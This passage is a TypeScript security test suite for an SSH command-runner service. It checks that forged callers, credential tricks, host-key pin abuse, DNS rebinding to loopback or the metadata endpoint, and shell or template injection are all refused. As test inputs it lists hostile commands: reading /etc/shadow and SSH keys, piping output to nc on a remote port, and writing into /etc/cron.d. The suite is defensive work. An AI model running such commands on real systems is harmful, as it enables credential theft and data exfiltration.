/**
 * The hostile-caller suite (issue 10, docs/security.md): every attack a caller with bad intent
 * can try, each through the real handlers (API Gateway v1 and v2, the Step Functions task, the
 * local server) against a real OpenSSH sshd and a rogue SSH server that records every
 * authentication attempt. Pass = the right error name and status for each attack, ZERO
 * authentication attempts at the rogue server across the whole suite, and no secret byte
 * (password, key material, passphrase) in any captured log line, response or thrown error.
 */
import { request as httpRequest } from "node:http";
import type { APIGatewayProxyResult } from "aws-lambda";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createApiHandler } from "../../functions/api.ts";
import { Policy, type PolicyDocument } from "../../functions/policy/policy.ts";
import type { Runtime } from "../../functions/runtime/runtime.ts";
import { createTaskHandler } from "../../functions/task.ts";
import { runCommand } from "../../lib/run-command.ts";
import type { RunResult, Secret } from "../../lib/types.ts";
import { demoKeyPair } from "../../local/demo-key.ts";
import { type LocalServer, startLocalServer, TOKEN_HEADER } from "../../local/server.ts";
import {
  CALLER,
  type Captured,
  fakeContext,
  LOOPBACK_DENY,
  taskEvent,
  testRuntime,
  v1Event,
  v2Event,
  WORKFLOW,
} from "../functions/support.ts";
import { generateEd25519KeyPair } from "../helpers/keys.ts";
import { type SshdServer, startSshd } from "../helpers/sshd.ts";
import { type RogueServer, startRogueServer } from "./rogue-server.ts";

/** A caller whose rule allows request pins (and the password credential). */
const PINNER = "arn:aws:iam::123456789012:role/pinner";
/** A caller allowed only names under *.corp that resolve into 10.0.0.0/8. */
const CORP = "arn:aws:iam::123456789012:role/corp-operator";
/** A caller allowed one jump host (127.0.0.1, the rogue's port, `jump-key`) and 10.0.5.0/24 behind it. */
const JUMPER = "arn:aws:iam::123456789012:role/jumper";
/** A caller whose loopback rule allows request pins, the password and jump hosts. */
const JUMP_PINNER = "arn:aws:iam::123456789012:role/jump-pinner";
/** A caller allowed any IPv4 address on port 22 (the deny list still applies). */
const WIDE = "arn:aws:iam::123456789012:role/wide";
/** A caller allowed names under *.dev.corp only (no cidrs: the documented way), pins allowed. */
const DEV = "arn:aws:iam::123456789012:role/dev-operator";
/** A caller no rule names. */
const STRANGER = "arn:aws:iam::999999999999:user/mallory";
/** The rogue's key line under another key type's name would not parse: use its own line. */
const otherRogueKeyLine = () => rogue.server.hostKeyLine;
const BROKEN_KEY_BODY = "U0VDUkVULUtFWS1CWVRFUy1ORVZFUi1JTi1BLUxPRy1MSU5F";
const WRONG_PASSPHRASE = "not-the-passphrase-7f3c";

let sshd: SshdServer;
let rogue: RogueServer;
/**
 * A second attacker's server, for the one attack the policy lets through (a pinned jump host
 * under `allowRequestPins` with a key credential): it may see that key's attempt, never more.
 */
let pinRogue: RogueServer;
/**
 * "prod": listed in known hosts as `prod.corp,<address>` (issue 23). A dev caller whose DNS
 * points a dev name at prod's address must never get a credential to it: zero attempts.
 */
let prodRogue: RogueServer;
/** Every name the suite's resolver was asked for. */
const lookups: string[] = [];
/** Every credential name the handlers read from the store. */
const credentialReads: string[] = [];
let captured: Captured;
let api: ReturnType<typeof createApiHandler>;
let task: ReturnType<typeof createTaskHandler>;
/** The suite's runtime, for attacks that need one more store. */
let suiteRuntime: Runtime;
let local: LocalServer;
/** Every response body and thrown error of the suite, for the secret scan. */
const seen: string[] = [];

function policy(): PolicyDocument {
  const loopback = {
    cidrs: ["127.0.0.1/32"],
    ports: [sshd.port, rogue.server.port],
    usernames: [sshd.username],
  };
  return {
    // The lab's servers listen on loopback, which the default deny list refuses.
    denyCidrs: LOOPBACK_DENY,
    replaceDefaultDenyCidrs: true,
    rules: [
      {
        id: "uptime-only",
        callers: [CALLER],
        targets: loopback,
        credentials: ["default", "broken", "locked"],
        commands: {
          // Deliberately wide: shell syntax is refused whatever the pattern says.
          patterns: ["uptime", "echo [ -~]*"],
          templates: ["tail-file", "zeros"],
        },
      },
      {
        id: "pins",
        callers: [PINNER],
        targets: loopback,
        credentials: ["default", "prod-root"],
        allowRequestPins: true,
        commands: { patterns: ["uptime"] },
      },
      {
        id: "pins-by-name",
        callers: [PINNER],
        targets: { hosts: ["revoked.corp"], ...loopback },
        allowRequestPins: true,
        commands: { patterns: ["uptime"] },
      },
      {
        id: "corp-names",
        callers: [CORP],
        targets: { hosts: ["*.corp"], cidrs: ["10.0.0.0/8"], ports: [sshd.port], usernames: ["*"] },
        commands: { patterns: ["uptime"] },
      },
      {
        // Meant only as a jump host: its own command is `true`.
        id: "jump-only",
        callers: [JUMPER],
        targets: {
          cidrs: ["127.0.0.1/32"],
          ports: [rogue.server.port],
          usernames: [sshd.username],
        },
        credentials: ["jump-key"],
        allowAsJumpHost: true,
        commands: { patterns: ["true"] },
      },
      {
        id: "jump-net",
        callers: [JUMPER],
        targets: { cidrs: ["10.0.5.0/24"], usernames: [sshd.username] },
        commands: { patterns: ["uptime"] },
      },
      {
        id: "jump-pins",
        callers: [JUMP_PINNER],
        targets: {
          cidrs: ["127.0.0.1/32"],
          ports: [sshd.port, rogue.server.port, pinRogue.server.port],
          usernames: [sshd.username],
        },
        credentials: ["default", "prod-root"],
        allowRequestPins: true,
        allowAsJumpHost: true,
        commands: { patterns: ["uptime"] },
      },
      {
        id: "dev-names",
        callers: [DEV],
        targets: { hosts: ["*.dev.corp"], ports: [prodRogue.server.port], usernames: ["*"] },
        allowRequestPins: true,
        commands: { patterns: ["uptime"] },
      },
      {
        id: "wide",
        callers: [WIDE],
        targets: { cidrs: ["0.0.0.0/0"], usernames: ["*"] },
        allowAsJumpHost: true,
        commands: { patterns: ["uptime"] },
      },
      {
        id: "workflow",
        callers: [WORKFLOW],
        targets: loopback,
        allowAsJumpHost: true,
        commands: { patterns: ["uptime", "exit [0-9]+", "echo [ -~]*"] },
      },
    ],
    templates: {
      "tail-file": {
        command: "tail -n 5 {{file}}",
        params: { file: { type: "string", pattern: "[A-Za-z0-9/._-]+" } },
      },
      zeros: {
        command: "head -c {{n}} /dev/zero",
        params: { n: { type: "integer", minimum: 1, maximum: 100_000 } },
      },
    },
  };
}

beforeAll(async () => {
  [sshd, rogue, pinRogue, prodRogue] = await Promise.all([
    startSshd(),
    startRogueServer(),
    // Its own key: the shared one is revoked in this suite's known hosts.
    startRogueServer(demoKeyPair()),
    startRogueServer(generateEd25519KeyPair("prod")),
  ]);
  if (sshd.password === null)
    throw new Error("the suite needs root (a password for the test user)");
  const secrets: Record<string, Secret> = {
    default: { privateKey: sshd.keys.ed25519.privateKey },
    "jump-key": { privateKey: sshd.keys.ecdsa.privateKey },
    "prod-root": { password: sshd.password },
    broken: {
      privateKey: `-----BEGIN OPENSSH PRIVATE KEY-----\n${BROKEN_KEY_BODY}\n-----END OPENSSH PRIVATE KEY-----\n`,
    },
    locked: { privateKey: sshd.keys.encrypted.privateKey, passphrase: WRONG_PASSPHRASE },
  };
  const knownHosts = [
    sshd.knownHostsLine,
    // The rogue's key, revoked for one name: no pin can bring it back.
    `@revoked [revoked.corp]:${rogue.server.port} ${rogue.server.hostKeyLine}`,
    // prod, by name and by address, as `ssh` with CheckHostIP writes it.
    `[prod.corp]:${prodRogue.server.port},[127.0.0.1]:${prodRogue.server.port} ${prodRogue.server.hostKeyLine}`,
  ].join("\n");
  const lookup = async (host: string) => {
    const table: Record<string, { address: string; family: 4 | 6 }> = {
      "internal.corp": { address: "127.0.0.1", family: 4 },
      "revoked.corp": { address: "127.0.0.1", family: 4 },
      "mapped.corp": { address: "::ffff:127.0.0.1", family: 6 },
      "metadata.corp": { address: "169.254.169.254", family: 4 },
      "outside.corp": { address: "10.0.6.7", family: 4 },
      // The caller's DNS: a dev name pointed at prod's address.
      "evil.dev.corp": { address: "127.0.0.1", family: 4 },
    };
    lookups.push(host);
    const found = table[host.toLowerCase().replace(/\.$/, "")];
    if (!found) throw Object.assign(new Error(`ENOTFOUND ${host}`), { code: "ENOTFOUND" });
    return found;
  };
  const made = testRuntime({
    policy: policy(),
    credentials: secrets,
    knownHosts,
    lookup,
    settings: { remoteBound: false },
  });
  captured = made.captured;
  const store = made.runtime.credentials;
  const read = store.get.bind(store);
  store.get = (name, options) => {
    credentialReads.push(name);
    return read(name, options);
  };
  api = createApiHandler(made.runtime);
  task = createTaskHandler(made.runtime);
  suiteRuntime = made.runtime;
  local = await startLocalServer({ handler: api, callerArn: CALLER, port: 0 });
});

afterAll(async () => {
  await Promise.all([
    local?.close(),
    rogue?.close(),
    pinRogue?.close(),
    prodRogue?.close(),
    sshd?.stop(),
  ]);
});

const target = (extra: Record<string, unknown> = {}) => ({
  host: "127.0.0.1",
  port: sshd.port,
  username: sshd.username,
  command: "uptime",
  ...extra,
});

interface Outcome {
  status: number;
  name: string | undefined;
  body: { error?: { name: string; message: string }; result?: RunResult } & Partial<RunResult>;
}

function outcome(response: APIGatewayProxyResult): Outcome {
  seen.push(response.body);
  const body = JSON.parse(response.body) as Outcome["body"];
  return { status: response.statusCode, name: body.error?.name, body };
}

type Via = "v1" | "v2";

async function viaApi(via: Via, body: unknown, caller = CALLER): Promise<Outcome> {
  const text = JSON.stringify(body);
  const event = via === "v1" ? v1Event(text, { caller }) : v2Event(text, { caller });
  return outcome(await api(event, fakeContext()));
}

async function viaTask(event: unknown): Promise<{ name: string; payload: unknown }> {
  try {
    const result = await task(event, fakeContext());
    seen.push(JSON.stringify(result));
    return { name: "none", payload: result };
  } catch (err) {
    const error = err as Error;
    seen.push(error.message, String(error.stack));
    return { name: error.name, payload: JSON.parse(error.message) as unknown };
  }
}

async function viaLocal(headers: Record<string, string>, body: unknown): Promise<number> {
  return new Promise((resolve, reject) => {
    const req = httpRequest(
      { host: "127.0.0.1", port: local.port, path: "/run", method: "POST", headers },
      (res) => {
        let text = "";
        res.on("data", (chunk: Buffer) => {
          text += chunk.toString();
        });
        res.on("end", () => {
          seen.push(text);
          resolve(res.statusCode ?? 0);
        });
      },
    );
    req.on("error", reject);
    req.end(JSON.stringify(body));
  });
}

describe("deny list: a policy's denyCidrs add to the defaults (issue 23)", () => {
  // An operator who only meant to deny one more network: on main, setting denyCidrs replaced
  // the defaults, and the rogue's loopback port under an any-address rule was dialled.
  it.each(["127.0.0.1", "::ffff:127.0.0.1"])(
    "reaches %s under an any-address rule whose policy sets denyCidrs [10.99.0.0/16] → 403 TargetNotAllowed, no dial",
    async (host) => {
      const made = testRuntime({
        policy: {
          denyCidrs: ["10.99.0.0/16"],
          rules: [
            {
              id: "any-address",
              callers: [CALLER],
              targets: {
                cidrs: ["0.0.0.0/0", "::/0"],
                ports: [rogue.server.port],
                usernames: ["*"],
              },
              credentials: ["default"],
              commands: { patterns: ["uptime"] },
            },
          ],
        },
        credentials: { default: { password: "hunter2-deny-list" } },
        settings: { remoteBound: false },
      });
      const handler = createApiHandler(made.runtime);
      const dials = rogue.connections();
      const body = JSON.stringify({
        host,
        port: rogue.server.port,
        username: "root",
        command: "uptime",
      });
      const o = outcome(await handler(v1Event(body, { caller: CALLER }), fakeContext()));
      expect([o.status, o.name]).toEqual([403, "TargetNotAllowed"]);
      expect(rogue.connections()).toBe(dials);
    },
  );
});

describe("idempotency: a task's own key is its execution's (issue 23)", () => {
  // The caller of a task is its state machine, which everyone who may start executions acts
  // as. On main, a second execution reusing another's idempotencyKey with the same request got
  // the first one's recorded output without a session (and a different request got
  // IdempotencyKeyReused, blocking it).
  it("reuses another execution's idempotencyKey → runs its own session, never replays the other's output", async () => {
    const records = new Map<string, RunResult>();
    let sessions = 0;
    const store: NonNullable<Runtime["idempotency"]> = {
      async run(scope, work) {
        const id = JSON.stringify([scope.caller, scope.key]);
        const kept = records.get(id);
        if (kept) return { result: kept, replayed: true };
        sessions++;
        const result = await work();
        records.set(id, result);
        return { result, replayed: false };
      },
    };
    const handler = createTaskHandler({ ...suiteRuntime, idempotency: store });
    const request = target({ command: "echo victim-output-7f", idempotencyKey: "nightly" });
    const victim = (await handler(taskEvent(request), fakeContext())) as RunResult;
    const attacker = (await handler(taskEvent(request), fakeContext())) as RunResult;
    seen.push(JSON.stringify(victim), JSON.stringify(attacker));
    expect(sessions).toBe(2);
    expect(attacker.requestId).not.toBe(victim.requestId);
    expect(records.size).toBe(2);
  });
});

describe("credentials: a caller uses only what its rule grants", () => {
  it.each(["v1", "v2"] as const)(
    "names the production password credential its rule does not grant (%s) → 403 CredentialNotAllowed",
    async (via) => {
      const o = await viaApi(via, target({ credential: "prod-root" }));
      expect([o.status, o.name]).toEqual([403, "CredentialNotAllowed"]);
    },
  );

  it("names an ungranted credential from a Step Functions task → CredentialNotAllowed", async () => {
    const t = await viaTask(taskEvent(target({ credential: "prod-root" })));
    expect(t.name).toBe("CredentialNotAllowed");
  });

  it("changes the case of a granted name (DEFAULT) → 403 CredentialNotAllowed", async () => {
    const o = await viaApi("v1", target({ credential: "DEFAULT" }));
    expect([o.status, o.name]).toEqual([403, "CredentialNotAllowed"]);
  });

  it("walks out of the credential namespace (default/../prod-root) → 400 ValidationError", async () => {
    const o = await viaApi("v1", target({ credential: "default/../prod-root" }));
    expect([o.status, o.name]).toEqual([400, "ValidationError"]);
  });

  it("uses a granted credential whose key does not parse → 500 CredentialInvalid, fixed message", async () => {
    const o = await viaApi("v1", target({ credential: "broken" }));
    expect([o.status, o.name]).toEqual([500, "CredentialInvalid"]);
    expect(o.body.error?.message).toMatch(/not in a format ssh can read/);
  });

  it("uses a granted key with the wrong stored passphrase → fixed message, no passphrase echoed", async () => {
    const o = await viaApi("v1", target({ credential: "locked" }));
    expect(o.body.error?.message).toMatch(/passphrase does not decrypt the private key/);
  });
});

describe("host keys: a request pin only narrows the operator's known hosts", () => {
  it("pins its own server's key for a host known hosts do not list (rule without allowRequestPins) → 403 TargetNotAllowed", async () => {
    const o = await viaApi(
      "v1",
      target({ port: rogue.server.port, hostKey: rogue.server.hostKeyFingerprint }),
    );
    expect([o.status, o.name]).toEqual([403, "TargetNotAllowed"]);
    expect(o.body.error?.message).toContain("allowRequestPins");
  });

  it("pins its own server with the production password (rule allows pins) → 403 CredentialNotAllowed", async () => {
    const o = await viaApi(
      "v2",
      target({
        port: rogue.server.port,
        hostKey: rogue.server.hostKeyLine,
        credential: "prod-root",
      }),
      PINNER,
    );
    expect([o.status, o.name]).toEqual([403, "CredentialNotAllowed"]);
  });

  it("pins the rogue's key for a host known hosts list with another key → 502 HostKeyMismatch, nothing sent", async () => {
    const o = await viaApi("v1", target({ hostKey: rogue.server.hostKeyFingerprint }), PINNER);
    expect([o.status, o.name]).toEqual([502, "HostKeyMismatch"]);
  });

  it("pins a key the operator revoked (rule allows pins) → 502 HostKeyMismatch, no credential sent", async () => {
    const o = await viaApi(
      "v1",
      target({
        host: "revoked.corp",
        port: rogue.server.port,
        hostKey: rogue.server.hostKeyLine,
      }),
      PINNER,
    );
    expect([o.status, o.name]).toEqual([502, "HostKeyMismatch"]);
  });

  it("points at its own server with no pin → 502, no credential sent", async () => {
    const o = await viaApi("v1", target({ port: rogue.server.port }));
    // Unlisted (HostKeyUnknown) — and here also revoked under another name (HostKeyMismatch).
    expect([o.status, o.name]).toEqual([502, "HostKeyMismatch"]);
  });

  it("sends a malformed pin → 400 ValidationError", async () => {
    const o = await viaApi("v1", target({ hostKey: "SHA256:not-a-fingerprint" }));
    expect([o.status, o.name]).toEqual([400, "ValidationError"]);
  });

  it("a narrowing pin that matches the listed key still runs (200, hostKeySource pin+known_hosts)", async () => {
    const o = await viaApi("v1", target({ hostKey: sshd.hostKeyFingerprint }));
    expect(o.status).toBe(200);
    expect(captured.audits.at(-1)).toMatchObject({ hostKeySource: "pin+known_hosts" });
  });
});

describe("callers: only the deployed API and the state machines are believed", () => {
  const forged = (patch: (ctx: Record<string, unknown>) => void, v2 = false) => {
    const event = v2 ? v2Event(JSON.stringify(target())) : v1Event(JSON.stringify(target()));
    patch(event.requestContext as unknown as Record<string, unknown>);
    return event;
  };
  it.each([
    [
      "another API id",
      (c: Record<string, unknown>): void => {
        c.apiId = "a1b2c3d4e5";
      },
      false,
    ],
    [
      "another stage",
      (c: Record<string, unknown>): void => {
        c.stage = "prod";
      },
      false,
    ],
    [
      "another account",
      (c: Record<string, unknown>): void => {
        c.accountId = "999999999999";
      },
      false,
    ],
    [
      "another API id (HTTP API v2)",
      (c: Record<string, unknown>): void => {
        c.apiId = "x";
      },
      true,
    ],
    [
      "no signed principal",
      (c: Record<string, unknown>): void => {
        (c.identity as Record<string, unknown>).userArn = null;
      },
      false,
    ],
  ] as const)(
    "invokes the function directly with %s → 403 CallerNotAllowed",
    async (_, patch, v2) => {
      const o = outcome(await api(forged(patch, v2), fakeContext()));
      expect([o.status, o.name]).toEqual([403, "CallerNotAllowed"]);
    },
  );

  it("invokes the API function with no requestContext → 403 CallerNotAllowed", async () => {
    const event = v1Event(JSON.stringify(target()));
    delete (event as { requestContext?: unknown }).requestContext;
    const o = outcome(await api(event, fakeContext()));
    expect([o.status, o.name]).toEqual([403, "CallerNotAllowed"]);
  });

  it("is a principal no rule names → 403 TargetNotAllowed", async () => {
    const o = await viaApi("v1", target(), STRANGER);
    expect([o.status, o.name]).toEqual([403, "TargetNotAllowed"]);
  });

  const machine = WORKFLOW;
  const execution = (name: string) => `${machine.replace(":stateMachine:", ":execution:")}:${name}`;
  it.each([
    ["a bare request (no execution context)", () => target()],
    [
      "an execution of another state machine",
      () => ({
        request: target(),
        execution: {
          id: "arn:aws:states:local:000000000000:execution:Other:e1",
          stateMachine: machine,
        },
      }),
    ],
    [
      "a state machine in another account",
      () => ({
        request: target(),
        execution: {
          id: "arn:aws:states:local:999999999999:execution:fleet-workflow:e1",
          stateMachine: "arn:aws:states:local:999999999999:stateMachine:fleet-workflow",
        },
      }),
    ],
    [
      "a state machine the deployment does not run",
      () => ({
        request: target(),
        execution: {
          id: "arn:aws:states:local:000000000000:execution:rogue:e1",
          stateMachine: "arn:aws:states:local:000000000000:stateMachine:rogue",
        },
      }),
    ],
    [
      "a role ARN as its state machine",
      () => ({
        request: target(),
        execution: { id: execution("e1"), stateMachine: "arn:aws:iam::000000000000:role/fleet" },
      }),
    ],
  ] as const)("invokes the task function with %s → CallerNotAllowed", async (_, event) => {
    const t = await viaTask(event());
    expect(t.name).toBe("CallerNotAllowed");
  });

  it("records the state machine as caller and the execution ARN in the audit line", async () => {
    const t = await viaTask(taskEvent(target()));
    expect(t.name).toBe("none");
    expect(captured.audits.at(-1)).toMatchObject({
      caller: WORKFLOW,
      executionArn: expect.stringContaining(":execution:fleet-workflow:"),
    });
  });
});

describe("commands: shell syntax and template injection", () => {
  it.each([
    "uptime; cat /etc/shadow",
    "uptime && id",
    "uptime || id",
    "uptime | nc 10.0.0.9 4444",
    "uptime\nid",
    "uptime\rid",
    "echo $(id)",
    "echo `id`",
    // biome-ignore lint/suspicious/noTemplateCurlyInString: shell syntax under test
    "echo ${HOME}",
    "echo hi > /etc/cron.d/x",
    "echo hi < /etc/shadow",
    "echo (id)",
    "echo hi \\; id",
    "echo hi & id",
    "echo deploy --force # --dry-run",
    "echo logs/x\t/etc/shadow",
    "echo /srv/*/../../home/*/.ssh/id_*",
    "echo ~root/.ssh",
    "echo 'quoted' words",
    "echo x\u000bid",
  ])("smuggles shell syntax past a wide pattern: %j → 403 CommandNotAllowed", async (command) => {
    const o = await viaApi("v1", target({ command }));
    expect([o.status, o.name]).toEqual([403, "CommandNotAllowed"]);
  });

  it.each([
    ['template:tail-file {"file":"/etc/passwd; id"}', "does not match"],
    ['template:tail-file {"file":"-n1000000"}', 'must not start with "-"'],
    ['template:tail-file {"file":"/x","extra":"1"}', "unknown parameter"],
    ['template:zeros {"n":100001}', "<= 100000"],
    ['template:zeros {"n":"1; id"}', "must be an integer"],
  ])("injects through a template parameter: %s → 403 CommandNotAllowed", async (command, why) => {
    const o = await viaApi("v2", target({ command }));
    expect([o.status, o.name]).toEqual([403, "CommandNotAllowed"]);
    expect(o.body.error?.message).toContain(why);
  });

  it.each([
    ['echo "{{x}}"', "inside double quotes"],
    ["echo '{{x}}'", "inside single quotes"],
    ["echo $(cat {{x}})", "inside command substitution"],
    ["echo `cat {{x}}`", "backtick substitution"],
    ["cat <<EOF\n{{x}}\nEOF", "here-document"],
    ["cat <<EOF\nnote \\\nEOF\necho {{x}}\nEOF", "here-document"],
    ["ls --dir={{x}}", "glued to other text"],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: shell syntax under test
    ["echo ${{{x}}}", "parameter expansion with braces"],
    ["echo \\{{x}}", "follows a backslash"],
    ["echo $'\\' {{x}} '", "ANSI-C quoting"],
    ["[[ {{x}} -gt 0 ]]", "bash's [[ test"],
    ["echo $(( {{x}} + 1 ))", "arithmetic evaluation"],
    ["read {{x}}", "argument of read"],
    ["printf -v {{x}} %s hi", "argument of printf -v"],
    ["eval {{x}}", "argument of eval"],
    // issue 23: the four gaps, then their relatives (test/functions/template-shape.test.ts).
    ["echo $[ {{x}} ]", "arithmetic expansion"],
    ["trap {{x}} EXIT", "argument of trap"],
    ["'eval' {{x}}", "written with quotes"],
    ["\\eval {{x}}", "written with quotes, escapes"],
    ['e""val {{x}}', "written with quotes"],
    ["eval echo {{x}}", "argument of eval"],
    ["source {{x}}", "argument of source"],
    [". {{x}}", "argument of ."],
    ["exec {{x}}", "argument of exec"],
    ["command eval {{x}}", "argument of command"],
    ["builtin eval {{x}}", "argument of builtin"],
    ["time eval {{x}}", "argument of eval"],
    ["true && eval {{x}}", "argument of eval"],
    ["(( {{x}} ))", "arithmetic evaluation"],
    ["{{x}} /etc/passwd", "is the command word"],
  ])(
    "gets a policy loaded whose template places a value unsafely (%j) → refused at load",
    (command, why) => {
      const doc: PolicyDocument = {
        rules: [],
        templates: { t: { command, params: { x: { type: "string", pattern: "[a-z]+" } } } },
      };
      expect(() => new Policy(doc)).toThrow(why);
      expect(() => new Policy(doc)).toThrow('template "t"');
    },
  );

  it.each([
    [{ type: "string" }, 'needs "pattern" or "enum"'],
    [{ type: "integer", minimum: 1 }, 'needs integer "minimum" and "maximum"'],
  ] as const)(
    "gets a policy loaded with an unbounded parameter %j → refused at load",
    (param, why) => {
      const doc = {
        rules: [],
        templates: { t: { command: "echo {{x}}", params: { x: param } } },
      } as unknown as PolicyDocument;
      expect(() => new Policy(doc)).toThrow(why);
    },
  );
});

describe("host-key trust cannot be dodged by spelling or by mixing rules", () => {
  it.each(["REVOKED.CORP", "revoked.corp."])(
    "pins a revoked key under another spelling of its host (%s) → 502 HostKeyMismatch",
    async (host) => {
      const o = await viaApi(
        "v1",
        target({ host, port: rogue.server.port, hostKey: rogue.server.hostKeyLine }),
        PINNER,
      );
      expect([o.status, o.name]).toEqual([502, "HostKeyMismatch"]);
    },
  );

  it("pins a key the operator revoked for another name, by address (rule allows pins) → 502 HostKeyMismatch", async () => {
    const o = await viaApi(
      "v1",
      target({ port: rogue.server.port, hostKey: rogue.server.hostKeyLine }),
      PINNER,
    );
    expect([o.status, o.name]).toEqual([502, "HostKeyMismatch"]);
  });

  it("borrows allowRequestPins from another rule that matches the same request → pin not honoured", () => {
    const mixed = new Policy({
      rules: [
        {
          id: "sandbox",
          callers: [CALLER],
          targets: { hosts: ["*.corp"], cidrs: ["10.9.0.0/16"], usernames: ["*"] },
          allowRequestPins: true,
          commands: { patterns: ["uptime"] },
        },
        {
          id: "prod",
          callers: [CALLER],
          targets: { hosts: ["*.corp"], cidrs: ["10.0.3.0/24"], usernames: ["*"] },
          commands: { patterns: ["uptime"] },
        },
      ],
    });
    const auth = mixed.authorize(CALLER, { host: "prod.corp", username: "u", command: "uptime" });
    expect(auth.allowRequestPins).toBe(false);
  });

  it("calls the library with a pin alone and a password → HostKeyUnknown, the password never sent", async () => {
    const result = await runCommand(
      { ...target({ port: rogue.server.port }), hostKey: otherRogueKeyLine() },
      { secret: { password: sshd.password! }, knownHosts: sshd.knownHostsLine, budgetMs: 5_000 },
    );
    expect(result.error?.name).toMatch(/^HostKey(Unknown|Mismatch)$/);
  });

  it.each(["*", "**"])(
    "reaches a numeric name or IPv6 literal through a host glob %j → refused",
    (glob) => {
      const loose = new Policy({
        rules: [
          {
            callers: [CALLER],
            targets: { hosts: [glob], usernames: ["*"] },
            commands: { patterns: ["uptime"] },
          },
        ],
      });
      for (const host of ["167772935", "0xa000307", "2606:4700::1111", "10.0.3.7"]) {
        expect(
          () => loose.authorize(CALLER, { host, username: "u", command: "uptime" }),
          host,
        ).toThrow(/not allowed/);
      }
    },
  );
});

describe("host keys: a name never inherits its address's entry (OpenSSH semantics)", () => {
  // issue 23: with a rule for *.dev.corp and prod listed as `prod.corp,<ip>`, a caller whose
  // DNS points evil.dev.corp at prod's address got the dev credential used on prod (main: 200).
  const evil = () => ({
    host: "evil.dev.corp",
    port: prodRogue.server.port,
    username: sshd.username,
    command: "uptime",
  });

  it.each(["v1", "v2"] as const)(
    "points a dev name at prod's address (API %s) → 502 HostKeyUnknown, no credential sent, hostKeySource none",
    async (via) => {
      const dials = prodRogue.connections();
      const o = await viaApi(via, evil(), DEV);
      expect([o.status, o.name]).toEqual([502, "HostKeyUnknown"]);
      expect(prodRogue.attempts).toEqual([]);
      // Refused at the key check: prod was reached, nothing was sent.
      expect(prodRogue.connections()).toBe(dials + 1);
      expect(captured.audits.at(-1)).toMatchObject({
        hostKeySource: "none",
        target: { host: "evil.dev.corp", address: "127.0.0.1" },
        error: { name: "HostKeyUnknown" },
      });
    },
  );

  it("pins prod's own key for the dev name (rule allows pins) → 502 HostKeyMismatch, no credential sent, hostKeySource pin", async () => {
    const o = await viaApi("v1", { ...evil(), hostKey: prodRogue.server.hostKeyLine }, DEV);
    expect([o.status, o.name]).toEqual([502, "HostKeyMismatch"]);
    expect(prodRogue.attempts).toEqual([]);
    expect(captured.audits.at(-1)).toMatchObject({ hostKeySource: "pin" });
  });
});

describe("addresses: no smuggled target, no resolver oracle", () => {
  it("resolves a permitted name into loopback → 403, and the response never names the address", async () => {
    const o = await viaApi("v1", target({ host: "internal.corp" }), CORP);
    expect([o.status, o.name]).toEqual([403, "TargetNotAllowed"]);
    expect(JSON.stringify(o.body)).not.toContain("127.0.0.1");
    expect(o.body.result?.target.address).toBeNull();
    expect(captured.audits.at(-1)?.target?.address).toBe("127.0.0.1");
  });

  it("resolves into the metadata endpoint → 403 TargetNotAllowed, address not revealed", async () => {
    const o = await viaApi("v1", target({ host: "metadata.corp" }), CORP);
    expect([o.status, o.name]).toEqual([403, "TargetNotAllowed"]);
    expect(JSON.stringify(o.body)).not.toContain("169.254");
  });

  it("resolves into IPv4-mapped loopback (::ffff:127.0.0.1) → 403 TargetNotAllowed", async () => {
    const o = await viaApi("v1", target({ host: "mapped.corp" }), CORP);
    expect([o.status, o.name]).toEqual([403, "TargetNotAllowed"]);
  });

  it.each(["127.0.0.1", "::1", "::127.0.0.1", "64:ff9b::7f00:1", "169.254.169.254", "0.0.0.0"])(
    "reaches %s under a rule that allows any address → refused by the default deny list",
    (address) => {
      const open = new Policy({
        rules: [
          {
            callers: ["*"],
            targets: { cidrs: ["0.0.0.0/0", "::/0"], usernames: ["*"] },
            commands: { patterns: ["uptime"] },
          },
        ],
      });
      expect(() =>
        open.authorize(CALLER, { host: address, username: "u", command: "uptime" }),
      ).toThrow(/may not reach/);
    },
  );

  it("gets a policy loaded whose host glob is an address pattern (10.0.*) → refused, pointing at cidrs", () => {
    const doc: PolicyDocument = {
      rules: [
        {
          callers: ["*"],
          targets: { hosts: ["10.0.*"], usernames: ["*"] },
          commands: { patterns: ["uptime"] },
        },
      ],
    };
    expect(() => new Policy(doc)).toThrow(/targets\.cidrs/);
  });
});

describe("sizes: no response can outgrow its transport", () => {
  it("asks a Step Functions task for more output than a state can carry → ValidationError", async () => {
    const t = await viaTask(taskEvent(target({ maxOutputBytes: 200_000 })));
    expect(t.name).toBe("ValidationError");
  });

  it("prints control bytes to inflate the JSON response → base64, at most 4/3 of maxOutputBytes", async () => {
    const o = await viaApi(
      "v1",
      target({ command: 'template:zeros {"n":60000}', maxOutputBytes: 30_000 }),
    );
    expect(o.status).toBe(200);
    expect(o.body.output).toMatchObject({ stdoutBytes: 60_000, stdoutEncoding: "base64" });
    expect(Buffer.byteLength(JSON.stringify(o.body.stdout))).toBeLessThan((30_000 * 4) / 3 + 200);
  });

  it("reads another workflow's output from a Step Functions error → counts and hashes only", async () => {
    const t = await viaTask(
      taskEvent(target({ command: "echo secret-output", failOnNonZeroExit: true })),
    );
    expect(t.name).toBe("none");
    const failed = await viaTask(taskEvent(target({ command: "exit 3", failOnNonZeroExit: true })));
    expect(failed.name).toBe("CommandFailed");
    expect((failed.payload as RunResult).stdout).toBe("");
  });
});

describe("jump hosts (via): no hop reaches further than the caller's rules", () => {
  /** The rogue as the jump host JUMPER's "jump-only" rule allows. */
  const jumpRogue = (extra: Record<string, unknown> = {}) => ({
    host: "127.0.0.1",
    port: rogue.server.port,
    username: sshd.username,
    credential: "jump-key",
    ...extra,
  });
  /** A request to 10.0.5.7 (JUMPER's "jump-net" rule) through the rogue jump host. */
  const behind = (extra: Record<string, unknown> = {}, via: Record<string, unknown> = {}) => ({
    host: "10.0.5.7",
    username: sshd.username,
    command: "uptime",
    via: jumpRogue(via),
    ...extra,
  });
  const hop = (o: Outcome) => o.body.result?.error?.hop;
  /**
   * Runs an attack and proves nothing was resolved or dialled and no credential offered — nor
   * read, unless `read` (a host-key refusal needs the credential's kind: password or key).
   */
  async function noDial<T>(attack: () => Promise<T>, read = false): Promise<T> {
    const before = [rogue.connections(), pinRogue.connections(), lookups.length];
    const [attempts, reads] = [pinRogue.attempts.length, credentialReads.length];
    const out = await attack();
    expect([rogue.connections(), pinRogue.connections(), lookups.length]).toEqual(before);
    expect(pinRogue.attempts.length).toBe(attempts);
    if (!read) expect(credentialReads.slice(reads), "credentials read").toEqual([]);
    return out;
  }

